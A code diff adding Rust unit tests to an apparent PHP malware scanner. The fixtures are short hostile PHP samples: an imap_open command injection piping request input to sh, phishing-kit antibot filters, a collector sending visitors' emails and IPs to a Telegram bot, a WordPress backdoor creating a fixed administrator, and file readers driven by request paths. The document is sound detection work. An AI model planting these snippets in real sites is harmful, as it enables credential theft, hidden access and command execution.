@@ -1712,4 +1712,46 @@ mod tests {
         let imap = "<?php $s = \"x -oproxycommand=echo\\t\" . base64_encode($_GET['c']) . \"|base64\\t-d|sh}\"; imap_open('{' . $s . ':143/imap}INBOX', '', '');";
         assert!(whys("x.php", imap).contains(&Why::BypassesPhpLimits), "{:?}", whys("x.php", imap));
     }
+
+    #[test]
+    fn phishing_kits_parts_learnt_from_fresh93_are_found() {
+        // A kit's `.htaccess` that denies anti-virus vendors and anti-phishing services by name;
+        // a site's own deny list of spammers' addresses is not one.
+        let vendors = "deny from virustotal.com\ndeny from avast.com\ndeny from phishtank.com\ndeny from 10.0.0.1\n";
+        assert_eq!(whys(".htaccess", vendors), [Why::PhishingBotFilter]);
+        assert!(whys(".htaccess", "deny from 10.0.0.1\ndeny from spam.example\ndeny from virustotal.com\n").is_empty());
+        // A filter that answers "404" to security services' hosts and goes on (no `exit`).
+        let filter = "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); $bad = array('phishtank', 'netcraft', 'kaspersky');\nforeach ($bad as $w) { if (substr_count($h, $w) > 0) { header('HTTP/1.0 404 Not Found'); } }";
+        assert_eq!(whys("antibot.php", filter), [Why::PhishingBotFilter]);
+        let shown = filter.replace("header('HTTP/1.0 404 Not Found');", "$seen = true;");
+        assert!(whys("antibot.php", &shown).is_empty());
+        // What a visitor typed, with the visitor's address, sent to a chat bot; an order form
+        // sent there without it is a shop's.
+        let bot = "<?php $e = $_POST['eml']; $m = \"Email: $e\\nIP: \" . $_SERVER['REMOTE_ADDR'];\nfile_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($m)); header('Location: next.php');";
+        assert_eq!(whys("p4.php", bot), [Why::CredentialCollector]);
+        let order = bot.replace(" . $_SERVER['REMOTE_ADDR']", "");
+        assert!(whys("p4.php", &order).is_empty());
+    }
+
+    #[test]
+    fn an_administrator_made_with_a_fixed_password_on_every_request_is_a_backdoor() {
+        // aaronjorbin's "NSA backdoor" plugin: an `init` hook makes `nsa`/`nsa` an administrator.
+        let maker = "<?php function mk() { if (get_user_by('email', 'n@example.com')) return; $id = wp_create_user('nsa', 'nsa', 'n@example.com'); $u = new WP_User($id); $u->set_role('administrator'); }\nadd_action('init', 'mk');";
+        assert_eq!(whys("nsa.php", maker), [Why::AdminBackdoor]);
+        // Made on a plugin's activation, or with a password from the form, it is the plugin's.
+        assert!(whys("nsa.php", &maker.replace("add_action('init'", "register_activation_hook(__FILE__")).is_empty());
+        assert!(whys("nsa.php", &maker.replace("'nsa', 'nsa'", "$_POST['u'], $pass")).is_empty());
+    }
+
+    #[test]
+    fn a_file_or_folder_the_visitor_names_shown_is_found() {
+        // fresh91's reader: `fopen` of the request's path for reading, shown line by line
+        // (`?? null` when the field is missing); fresh90's lister of any folder.
+        let reader = "<?php $a = $_GET['a'] ?? null; $f = @fopen($a, 'r'); while (!feof($f)) { echo htmlspecialchars(fgets($f)); } fclose($f);";
+        assert_eq!(whys("r.php", reader), [Why::FileReadFromInput]);
+        let lister = "<?php $d = $_GET['y']; if ($h = opendir($d)) { while (($f = readdir($h)) !== false) { print \"$f<br>\"; } }";
+        assert_eq!(whys("y.php", lister), [Why::FileReadFromInput]);
+        // A fixed file or folder is the script's own business.
+        assert!(whys("r.php", &reader.replace("@fopen($a, 'r')", "@fopen('news.txt', 'r')")).is_empty());
+    }
 }
